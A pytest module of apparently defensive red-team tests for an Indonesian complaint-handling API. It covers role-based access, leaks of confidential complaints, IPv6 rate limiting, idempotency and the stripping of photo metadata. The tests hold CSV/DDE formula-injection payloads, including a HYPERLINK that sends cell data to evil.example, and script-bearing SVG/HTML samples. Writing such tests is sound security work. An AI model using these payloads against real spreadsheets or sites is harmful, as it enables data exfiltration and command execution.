"""A red-team pass over the surfaces added after the privacy matrix: corrections and their export, the
desk's JSON, surge alerts, the public status page, Open311 and webhooks, tried as an attacker would.

One index and one app for the module; documents are folded with the real indexer code
(consumers.cases.document.fold) and written straight into the emulated Elasticsearch, so each test
costs a few requests, not a pipeline.
"""

from __future__ import annotations

import json
import threading
import uuid
from datetime import datetime, timedelta, timezone
from types import SimpleNamespace

import pytest
from elasticsearch import Elasticsearch
from fastapi.testclient import TestClient
from pydantic import SecretStr

from aduan.api import create_app
from aduan.core.settings import Settings
from consumers.cases.document import fold
from consumers.sinks.alerts import AlertWriter, ensure_alerts_index
from consumers.sinks.index import ensure_index
from consumers.sinks.webhooks.events import ComplaintDirectory, payload, to_event
from consumers.sinks.webhooks.subscriptions import Subscription
from schemas.events import LocationHint, SurgeAlert
from schemas.topics import ALERTS, ROUTED, STATUS
from tests import factories as make

pytestmark = [pytest.mark.integration, pytest.mark.hostile]

UNIT_A, UNIT_B = "DINKES.3273", "DPUPR.3204"
KEYS = {"op": {"role": "operator", "name": "meja"}, "an": {"role": "analyst", "name": "analis"},
        "ua": {"role": "unit", "unit": UNIT_A, "name": "dinkes"}, "ub": {"role": "unit", "unit": UNIT_B, "name": "pu"}}


class World:
    def __init__(self, http: TestClient, es: Elasticsearch, settings: Settings) -> None:
        self.http, self.es, self.settings = http, es, settings

    def put(self, *events, now: datetime | None = None) -> dict:
        """Fold these events (of one complaint) with the indexer's code and index the document."""
        doc = fold(None, list(events), now or datetime.now(timezone.utc), pseudonym_key="red").doc
        self.es.index(index=self.settings.index_alias, id=doc["complaint_id"], document=doc, refresh="wait_for")
        return doc

    def get(self, path: str, key: str | None = None, **params):
        return self.http.get(path, params=params, headers={"X-API-Key": key} if key else {})


@pytest.fixture(scope="module")
def world(servers, tmp_path_factory):
    settings = Settings(kafka_bootstrap=servers.kafka, elasticsearch_url=servers.elasticsearch,
                        index_alias=f"red-{uuid.uuid4().hex[:8]}", alerts_index=f"red-alerts-{uuid.uuid4().hex[:8]}",
                        data_dir=tmp_path_factory.mktemp("red"), api_keys=SecretStr(json.dumps(KEYS)),
                        intake_rate_per_minute=0, status_rate_per_minute=3, kafka_timeout_s=5)
    es = Elasticsearch(servers.elasticsearch)
    ensure_index(es, settings.index_alias)
    ensure_alerts_index(es, settings.alerts_index)
    with TestClient(create_app(settings), raise_server_exceptions=False) as http:
        yield World(http, es, settings)
    es.close()


def complaint(privacy: str = "publik", unit_code: str = UNIT_A, **fields):
    marker = make.marker("merah")
    return make.routed(text=f"Laporan {marker}: pungli oleh Pak Slamet, hubungi 0812-7777-3131", privacy=privacy,
                       unit_code=unit_code, region_code=unit_code.rsplit(".", 1)[-1],
                       reporter=make.reporter(name="Siti Rahayu", phone="+6281277773131", email="siti@mail.example.id"),
                       **fields)


# -- writes: a status event names a unit only when it re-routes ---------------------------------------------

def test_a_status_change_names_a_unit_only_to_reroute(world):
    """A unit (or an operator) sending ``unit_code`` with any other status than ``bukan_wewenang`` would put
    another unit on the status topic: the webhook dispatcher takes it for a re-route and from then on sends
    the complaint's clear content (a ``rahasia`` one's too) to that unit's endpoint, not the owner's."""
    doc = world.put(complaint("rahasia"))
    for key in ("ua", "op"):
        answer = world.http.post(f"/v1/complaints/{doc['complaint_id']}/status", headers={"X-API-Key": key},
                                 json={"status": "terverifikasi", "unit_code": UNIT_B, "reason": "cek"})
        assert answer.status_code in (409, 422), (key, answer.status_code, answer.text)


def test_only_a_reroute_moves_a_complaints_webhooks_to_another_unit():
    """Events already on the topic (or written by another producer) that name a unit without re-routing
    must not hand the complaint to that unit's endpoint."""
    routed = complaint("rahasia")
    directory = ComplaintDirectory()
    record = lambda topic, model: (topic, model.model_dump_json().encode())  # noqa: E731
    to_event(*record(ROUTED.name, routed), directory)
    to_event(*record(STATUS.name, make.status(routed.complaint_id, "terverifikasi", unit_code=UNIT_B)), directory)
    later = to_event(*record(STATUS.name, make.status(routed.complaint_id, "terdisposisi",
                                                      reason="Pelapor Siti Rahayu ditemui")), directory)
    other = Subscription(id="pu", unit_code=UNIT_B, url="https://b.example/h", secret_env="S", events=("*",))
    assert not other.wants(later) and "Siti" not in payload(later, other, "d").decode()


# -- the corrections export ----------------------------------------------------------------------------------

def test_the_corrections_export_holds_no_confidential_complaint(world):
    """The export is a training set: copied and shared. Contacts are scrubbed from its text, but a ``rahasia``
    complaint's words (whom it accuses, the names in it) are what its reporter asked nobody but the operators
    and the unit to read: no analyst may, so no training set may carry them."""
    from consumers.cases.corrections import labelled_examples

    secret, public = complaint("rahasia"), complaint("publik")
    for routed in (secret, public):
        world.put(routed, make.correction(routed.complaint_id, "topic", topic="pajak", reason="Pak Slamet 0812-7777-3131"))
    exported = json.dumps([e for e in labelled_examples(world.es, world.settings.index_alias)
                           if e["complaint_id"] in (secret.complaint_id, public.complaint_id)], ensure_ascii=False)
    assert public.complaint_id in exported and "3131" not in exported  # the export works, contacts scrubbed
    assert secret.complaint_id not in exported and secret.tracking_number not in exported


# -- surge alerts ---------------------------------------------------------------------------------------------

def test_an_alert_names_only_the_members_its_reader_may_see(world):
    """An alert's member ids are complaint ids, and a tracking number is derived from an id by public code
    (schemas.ids): a member id is the key to the public status page of that complaint (status, unit,
    timeline). An analyst must not get a ``rahasia`` complaint's, a unit another unit's."""
    secret, mine, theirs = complaint("rahasia"), complaint("publik"), complaint("publik", unit_code=UNIT_B)
    for routed in (secret, mine, theirs):
        world.put(routed)
    at = datetime.now(timezone.utc) - timedelta(minutes=5)
    surge = SurgeAlert(alert_id=str(uuid.uuid4()), kind="cluster", state="open", topic="kesehatan", region_code="3273",
                       cluster_id=secret.complaint_id, window_minutes=60, count=3, baseline=0.1,
                       message="Kesehatan: 3 laporan serupa dari Kota Bandung dalam 60 menit (biasanya 0,1)",
                       member_ids=[secret.complaint_id, mine.complaint_id, theirs.complaint_id], opened_at=at,
                       updated_at=at)
    record = SimpleNamespace(topic=ALERTS.name, partition=0, offset=0, key=surge.alert_id.encode(),
                             value=surge.model_dump_json().encode(), headers=[], timestamp=0)
    assert not AlertWriter(world.es, world.settings.alerts_index).write([record], threading.Event()).letters
    world.es.indices.refresh(index=world.settings.alerts_index)

    def seen(key: str) -> str:
        answer = world.get("/v1/alerts", key)
        assert answer.status_code == 200, answer.text
        found = [a for a in answer.json()["alerts"] if a["alert_id"] == surge.alert_id]
        assert found, key
        return json.dumps(found)

    everything = seen("op")
    assert all(r.complaint_id in everything for r in (secret, mine, theirs))
    analyst, unit = seen("an"), seen("ua")
    assert mine.complaint_id in analyst and theirs.complaint_id in analyst and secret.complaint_id not in analyst
    assert mine.complaint_id in unit and secret.complaint_id in unit and theirs.complaint_id not in unit


# -- Open311 (no key at all) -----------------------------------------------------------------------------

def test_open311_publishes_only_the_units_public_notes(world):
    """Only the note of ``ditindaklanjuti``/``selesai`` is written for the citizen (consumers.notify.plan);
    every other reason is internal (an archive's "laporan palsu", a pause's, a re-route's), and the reporter's
    own BELUM answer is theirs. The public status page keeps to that; Open311, read without a key, must too."""
    internal = {"diarsipkan": "Arsip: pelapor Siti Rahayu diduga mengada-ada", "ditunda": "Menunggu Pak Lurah Slamet"}
    for status, reason in internal.items():
        routed = complaint("publik")
        world.put(routed, make.status(routed.complaint_id, status, reason=reason))
        shown = world.get(f"/open311/v2/requests/{routed.tracking_number}.json").json()
        assert shown[0]["status_notes"] is None, (status, shown)
    routed = complaint("anonim")
    start = datetime.now(timezone.utc) - timedelta(hours=1)
    world.put(routed, *[make.status(routed.complaint_id, status, at=start + timedelta(minutes=i), **fields)
                        for i, (status, fields) in enumerate([
                            ("terverifikasi", {}), ("terdisposisi", {}),
                            ("ditindaklanjuti", {"reason": "Lubang sudah ditambal"}),
                            ("terdisposisi", {"reason": "Belum, saya Siti Rahayu masih lihat lubang", "actor": "pelapor",
                                              "actor_role": "citizen"})])])
    shown = world.get(f"/open311/v2/requests/{routed.tracking_number}.json").json()
    assert "Siti" not in json.dumps(shown) and shown[0]["status_notes"] is None, shown


# -- the public status page: guessing tracking numbers ---------------------------------------------------------

def test_guessing_tracking_numbers_from_one_ipv6_network_is_limited_as_one_client(world):
    """40 bits of tracking number against a per-client limit: infeasible from one client, but every IPv6
    customer holds at least a /64 (2^64 addresses). Counted per address, the limit was no limit at all."""
    def ask(address: str) -> int:
        guess = TestClient(world.http.app, client=(address, 40000))  # the same app and buckets, another peer
        return guess.get("/v1/public/status/ADU-0000-0001").status_code

    assert [ask(f"2001:db8:7:1::{i:x}") for i in range(1, 5)] == [404, 404, 404, 429]
    assert ask("2001:db8:7:2::1") == 404  # the next /64 is another client
    assert ask("::ffff:192.0.2.7") == 404 and ask("192.0.2.8") == 404  # IPv4: per address, as before


# -- the desk's JSON, every role -------------------------------------------------------------------------------

def test_the_desk_json_gives_each_role_only_what_it_may_read(world):
    """Every desk read (queue with counts and facets, complaint page by id and tracking number, the search
    page's day chart) for every role, against a complaint of each privacy whose every typed field, status
    reason, correction reason and notification (a provider error quoting the number, a message id)
    carries a contact."""
    from schemas.events import Attachment, NotificationRecord

    word = make.marker("meja")
    cases = {}
    for privacy, block in (("publik", "6161"), ("anonim", "7272"), ("rahasia", "8383")):
        number = lambda end: f"0813-{block}-{end}"  # noqa: E731
        routed = make.routed(
            text=f"Aduan {word} {privacy}: hubungi {number('0001')}", subject=f"{word} sms {number('0002')}",
            privacy=privacy, unit_code=UNIT_A, region_code="3273", needs_triage=True,
            reporter=make.reporter(name=f"Siti {number('0003')}", phone=f"+62813{block}0004",
                                   email=f"siti{privacy}@mail.example.id"),
            location=LocationHint(text=f"depan rumah {number('0005')}"),
            attachments=[Attachment(filename=f"ktp {number('0006')}.jpg", content_type="image/jpeg", size_bytes=1,
                                    sha256="b" * 64)])
        events = [routed, make.status(routed.complaint_id, "terverifikasi", reason=f"sudah telp {number('0007')}"),
                  make.correction(routed.complaint_id, "topic", topic="kesehatan", reason=f"kata {number('0008')}"),
                  NotificationRecord(notification_id=uuid.uuid4().hex, complaint_id=routed.complaint_id,
                                     channel="social", provider="whatsapp", template="verified", result="failed",
                                     provider_message_id=f"wamid.RAHASIA{privacy}", attempts=3,
                                     error=f"+62813{block}0009 is not a valid WhatsApp user", at=datetime.now(timezone.utc))]
        world.put(*events)
        cases[privacy] = (routed, block)

    def answers(key: str) -> dict[str, str]:
        found = {"queue": world.get("/v1/desk/queue", key, q=word, queue="open").text,
                 "triage": world.get("/v1/desk/queue", key, queue="needs_triage", size=100).text,
                 "days": world.get("/v1/search/days", key, q=word).text}
        for routed, _ in cases.values():
            for name in (routed.complaint_id, routed.tracking_number):
                found[name] = world.get(f"/v1/desk/complaints/{name}", key).text
        return found

    for key in ("an", "ua", "ub"):
        found = answers(key)
        for privacy, (routed, block) in cases.items():
            if key == "ub" or (key == "an" and privacy == "rahasia"):
                assert not any(routed.complaint_id in text or f"{word} {privacy}" in text for text in found.values())
            clear = key == "ua" and privacy != "anonim"
            for surface, text in found.items():
                # The provider's error (it quotes the number) and message id: operators only, whoever else reads. Its
                # words, not its bare "0009", are looked for: a random complaint id or a timestamp's microseconds may
                # hold "0009" (this failed once in CI with no leak).
                assert "not a valid WhatsApp user" not in text and f"{block}0009" not in text, (key, surface)
                assert f"RAHASIA{privacy}" not in text, (key, surface)
                assert clear or (block not in text and f"siti{privacy}@" not in text), (key, privacy, surface)
                assert "provider_message_id" not in text and "reporter_key" not in text, (key, surface)
        if key == "ua":  # the owner unit really reads its publik complaint's contacts: the test can fail
            assert "6161-0001" in found[cases["publik"][0].complaint_id]
    counts = json.loads(world.get("/v1/desk/queue", "ub", unit=UNIT_A).text)["counts"]
    assert counts == {q: 0 for q in counts}
    operator = answers("op")[cases["rahasia"][0].complaint_id]
    assert all(needle in operator for needle in ("8383-0001", "83830009 is not a valid WhatsApp user", "RAHASIArahasia"))
    analyst = json.loads(answers("an")[cases["anonim"][0].complaint_id])
    assert analyst["complaint"]["reporter"] == {} and analyst["topics"] == [] and analyst["units"] == []


# -- corrections: who, what body, and what a merge exposes -----------------------------------------------------

@pytest.mark.parametrize(("key", "body", "code"), [
    ("ua", {"kind": "topic", "topic": "pajak"}, 403),  # its own complaint: units do not reclassify
    ("ub", {"kind": "split"}, 403),
    ("an", {"kind": "merge", "target": "ADU-0000-0000"}, 403),
    ("op", {"kind": "topic", "topic": "pajak", "complaint_id": "another"}, 422),  # the path names the complaint
    ("op", {"kind": "topic", "topic": "pajak", "privacy": "publik"}, 422),
    ("op", {"kind": "topic", "topic": "pajak", "unit_code": UNIT_B}, 422),
    ("op", {"kind": "topic", "topic": "p\u0430jak"}, 422),  # a Cyrillic u
    ("op", {"kind": "topic", "topic": "PAJAK"}, 422),
    ("op", {"kind": "topic", "topic": "pajak\u200b"}, 422),
    ("op", {"kind": "t\u043epic", "topic": "pajak"}, 422),
    ("op", {"kind": "topic", "topic": "pajak", "target": "x"}, 422),
    ("op", {"kind": "topic", "topic": "pajak", "reason": "x" * 2001}, 422),
    ("op", [{"kind": "topic", "topic": "pajak"}], 422),
    ("op", {"kind": "topic", "topic": "pajak", "reason": "x" * 2000}, 202),  # the same, well formed: accepted
])
def test_a_correction_is_the_operators_and_says_only_what_its_kind_names(world, key, body, code):
    doc = world.put(complaint("rahasia"))
    answer = world.http.post(f"/v1/complaints/{doc['complaint_id']}/corrections", json=body, headers={"X-API-Key": key})
    assert answer.status_code == code, answer.text


def test_a_huge_correction_body_is_refused_while_it_streams(world):
    doc = world.put(complaint())
    body = json.dumps({"kind": "topic", "topic": "pajak", "reason": "a" * (1 << 20)})
    answer = world.http.post(f"/v1/complaints/{doc['complaint_id']}/corrections", content=body,
                             headers={"X-API-Key": "op", "Content-Type": "application/json"})
    assert answer.status_code == 413


def test_a_merge_across_privacies_shows_no_reader_what_it_may_not_read(world):
    """A public complaint merged into a ``rahasia`` complaint's cluster, and a ``rahasia`` one merged into a
    public cluster: the analyst (and Open311, without a key) reading the public one gets no trace of the
    confidential member; unit B, whose complaint the public one is, none of unit A's."""
    secret = complaint("rahasia")
    public = complaint("publik", unit_code=UNIT_B)
    hidden = complaint("rahasia")
    world.put(secret)
    world.put(public, make.correction(public.complaint_id, "merge", cluster_id=secret.complaint_id))
    # Into the public one's cluster, which is the secret one's now (the API takes the target's cluster id).
    world.put(hidden, make.correction(hidden.complaint_id, "merge", cluster_id=secret.complaint_id))
    for key in ("an", "ub"):
        shown = world.get(f"/v1/complaints/{public.complaint_id}", key).json()
        assert [m["complaint_id"] for m in shown["cluster"]] == [], (key, shown["cluster"])
        stats = world.get("/v1/stats", key).text
        text = json.dumps(shown) + stats
        assert secret.text not in text and hidden.text not in text and hidden.complaint_id not in text, key
    open311 = world.get(f"/open311/v2/requests/{public.tracking_number}.json").text
    assert secret.complaint_id not in open311 and hidden.complaint_id not in open311
    assert world.get(f"/open311/v2/requests/{secret.tracking_number}.json").status_code == 404
    operator = world.get(f"/v1/complaints/{public.complaint_id}", "op").json()
    assert [m["complaint_id"] for m in operator["cluster"]] == [hidden.complaint_id]


def test_no_reader_learns_the_id_of_a_complaint_it_may_not_see(world):
    """A complaint names others: its cluster's head (``cluster_id``, also the stream's ``routed_cluster_id``),
    the complaint it duplicates, its resends, a merge's target. An id gives away the tracking number (public
    code), which opens the public status page. Unit B's public complaint, clustered by the stream under a
    ``rahasia`` complaint of unit A and merged into it again by an operator: neither the analyst nor unit B
    finds the secret one's id or number on any surface; the operator does (so the test can fail)."""
    from consumers.read.access import Principal
    from consumers.read.live import live_event

    secret = complaint("rahasia")
    public = complaint("publik", unit_code=UNIT_B, cluster_id=secret.complaint_id, duplicate_of=secret.complaint_id)
    world.put(secret)
    resend = make.duplicate(public.complaint_id)  # another sender's copy, folded in: not a document of its own
    world.put(public, resend, make.correction(public.complaint_id, "merge", cluster_id=secret.complaint_id))
    marker = public.text.split(":")[0].split()[-1]
    surfaces = [f"/v1/complaints/{public.complaint_id}", f"/v1/complaints/{public.tracking_number}",
                "/v1/search", "/v1/export.csv", "/v1/export.jsonl", "/v1/stats"]
    needles = (secret.complaint_id, secret.tracking_number, resend.complaint_id)
    for key in ("an", "ub"):
        for path in surfaces:
            answer = world.get(path, key, q=marker) if "/complaints/" not in path else world.get(path, key)
            assert answer.status_code == 200, (key, path, answer.status_code)
            assert public.tracking_number in answer.text or path == "/v1/stats", (key, path)  # it is served
            assert not any(n in answer.text for n in needles), (key, path, answer.text[:400])
    shown = world.get(f"/v1/complaints/{public.complaint_id}", "ub").json()
    assert shown["cluster_id"] is None and shown["report_count"] >= 1
    operator = world.get(f"/v1/complaints/{public.complaint_id}", "op").text
    assert secret.complaint_id in operator
    # The live feed and unit B's webhook have no index to ask: the head's id is dropped for non-operators.
    record = json.loads(public.model_dump_json())
    for principal in (Principal(role="analyst", name="an"), Principal(role="unit", name="ub", unit_code=UNIT_B)):
        event = live_event(principal, record)
        assert event is not None and not any(n in json.dumps(event) for n in needles), (principal, event)
    assert secret.complaint_id in json.dumps(live_event(Principal(role="operator", name="op"), record))
    own = Subscription(id="pu", unit_code=UNIT_B, url="https://b.example/h", secret_env="S", events=("*",))
    event = to_event(ROUTED.name, public.model_dump_json().encode(), ComplaintDirectory())
    body = payload(event, own, "d").decode()
    assert public.complaint_id in body and secret.complaint_id not in body


# -- injection: CSV formulas, script in text -------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u3000=1+1",
            'biasa";=HYPERLINK("http://evil.example")', "biasa\r\n=1+1"]


def test_no_csv_cell_of_a_citizens_text_is_a_formula(world):
    """Every text column a citizen fills (subject, text, reporter name), written as an attacker would,
    exported with ``;`` for every role that exports: parsed back, no cell starts (after blanks a
    spreadsheet may trim) with what a spreadsheet runs."""
    import csv
    import io

    word = make.marker("rumus")
    for formula in FORMULAS:
        world.put(make.routed(text=formula, subject=formula, unit_code=UNIT_A, region_code="3273",
                              reporter=make.reporter(name=formula), location=LocationHint(text=word)))
        world.put(make.routed(text=f"{word} {formula}", subject=f"{formula} {word}", unit_code=UNIT_A,
                              region_code="3273", reporter=make.reporter(name=formula)))
    for key in ("op", "an", "ua"):
        answer = world.get("/v1/export.csv", key, delimiter=";", unit=UNIT_A)
        rows = list(csv.reader(io.StringIO(answer.text.lstrip("\ufeff")), delimiter=";"))
        assert len(rows) > len(FORMULAS), (key, len(rows))
        for row in rows[1:]:
            assert len(row) == len(rows[0]), (key, row)
            for cell in row:
                if cell.startswith(("+62", "-")) and cell.replace("+", "").replace("-", "").isdigit():
                    continue  # a phone number or a negative number, not text
                assert not cell.lstrip(" \u00a0\u3000").startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)


# -- writes: an Idempotency-Key is one request's, on one complaint -----------------------------------------------

def test_the_same_idempotency_key_on_two_complaints_is_two_events(world):
    """The event id is derived from the key so that a retry is the same event; derived from the actor and the
    key alone, a client numbering its requests per complaint (``1``, ``2``, ...) gave complaint Y the event id of
    complaint X's change, and the notification id with it (``status:<event id>``): the notifier, whose ledger is
    keyed by notification id, took Y's notice for one already sent and the citizen was never told."""
    first, second = world.put(complaint()), world.put(complaint())
    for path, body in (("status", {"status": "terverifikasi"}), ("corrections", {"kind": "topic", "topic": "pajak"})):
        ids = []
        for doc in (first, second, first):
            answer = world.http.post(f"/v1/complaints/{doc['complaint_id']}/{path}", json=body,
                                     headers={"X-API-Key": "op", "Idempotency-Key": "1"})
            assert answer.status_code == 202, answer.text
            ids.append(answer.json().get("event_id") or answer.json()["correction_id"])
        assert ids[0] != ids[1] and ids[0] == ids[2], (path, ids)  # a retry is still the same event


# -- attachments: who downloads what, and what the bytes say -----------------------------------------------------

def jpeg_with_exif(owner: bytes) -> bytes:
    """A JPEG whose EXIF (APP1), XMP and comment name the photographer, as a phone's camera writes them."""
    def segment(marker: int, payload: bytes) -> bytes:
        return bytes([0xFF, marker]) + (len(payload) + 2).to_bytes(2, "big") + payload
    return (b"\xff\xd8" + segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
            + segment(0xE1, b"Exif\x00\x00MM\x00*" + b"Artist " + owner + b" GPS -6.9147,107.6098")
            + segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>" + owner + b"</x:xmpmeta>")
            + segment(0xFE, b"dibuat oleh " + owner) + segment(0xDB, b"\x00" + bytes(64))
            + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\x34\xff\x00\x56" + b"\xff\xd9")


def png_with_text(owner: bytes) -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"tEXt", b"Author\x00" + owner) + chunk(b"eXIf", b"MM\x00*" + owner)
            + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))


def test_attachments_by_role_and_what_their_bytes_carry(world):
    """Who reads only the redacted copy (an analyst; the owner unit of an ``anonim`` complaint; the public through
    Open311's media_url) downloads photos, and a phone's photo names its owner and where it was taken in its
    metadata: they get the picture without it. An SVG or HTML file never opens inline; another unit gets a 404."""
    from schemas.events import Attachment

    owner = b"Siti Rahayu"
    blobs = world.http.app.state.blobs
    files = [("foto.jpg", "image/jpeg", jpeg_with_exif(owner)), ("foto.png", "image/png", png_with_text(owner)),
             ("x.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
             ("x.html", "text/html", b"<script>alert(document.domain)</script>")]
    attachments = [Attachment(filename=name, content_type=kind, size_bytes=len(data), sha256=blobs.put(data))
                   for name, kind, data in files]
    docs = {privacy: world.put(complaint(privacy, attachments=attachments)) for privacy in ("publik", "anonim", "rahasia")}

    def fetch(key: str, privacy: str, n: int):
        return world.get(f"/v1/complaints/{docs[privacy]['tracking_number']}/attachments/{n}", key)

    for n, (_name, _kind, data) in enumerate(files):
        served = fetch("op", "rahasia", n)
        assert served.status_code == 200 and served.content == data  # operators get the file as sent
        assert served.headers["x-content-type-options"] == "nosniff" and "sandbox" in served.headers["content-security-policy"]
        assert served.headers["content-disposition"].startswith("inline" if n < 2 else "attachment"), served.headers
        assert fetch("ub", "publik", n).status_code == 404 and fetch("an", "rahasia", n).status_code == 404
    assert fetch("ua", "rahasia", 0).content == files[0][2]  # the owner unit reads its rahasia complaint in clear
    for key, privacy in (("an", "publik"), ("an", "anonim"), ("ua", "anonim")):
        assert [fetch(key, privacy, n).status_code for n in (2, 3)] == [403, 403], (key, privacy)
        for n in (0, 1):
            served = fetch(key, privacy, n)
            assert served.status_code == 200 and owner not in served.content, (key, privacy, n, served.content)
            assert served.content.startswith(files[n][2][:4]) and served.content.endswith(files[n][2][-4:])
    for n in (0, 1):
        public = world.get(f"/open311/v2/requests/{docs['publik']['tracking_number']}/media/{n}")
        assert public.status_code == 200 and owner not in public.content, n
